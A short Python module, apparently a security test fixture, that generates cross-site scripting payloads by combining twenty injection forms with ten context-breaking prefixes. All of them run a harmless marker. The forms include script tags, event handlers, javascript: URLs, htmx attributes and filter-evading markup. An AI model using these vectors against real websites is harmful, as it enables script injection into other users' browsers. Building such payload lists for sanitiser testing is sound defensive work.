"""Texts that run as a script wherever a page takes text for markup (S4)."""

from itertools import product

CALL = "window.hacked=1"
CORES = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<body onload={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>",
    f"<style>@import 'javascript:{CALL}'</style>",
    f"<object data=javascript:{CALL}>",
    f"<form><button formaction=javascript:{CALL}>x",
    f"<div hx-on:load='{CALL}' hx-get=/ hx-trigger=load>",
    f"<div hx-vals='js:{{a:({CALL})}}' hx-get=/ hx-trigger=load>",
    f"{{{{ {CALL} }}}}",
    f"${{{CALL}}}",
    f"javascript:{CALL}",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
)
BREAKS = (
    "",
    "\"'>",
    "</script>",
    "</textarea></title></style>",
    "--><!--",
    "]]>",
    "' x='",
    "\\u003c",
    "\u2028",
    "%3E",
)


def payloads(count: int) -> list[str]:
    """So many of them; the plain ones first."""
    found = [before + core for before, core in product(BREAKS, CORES)]
    return found[:count]
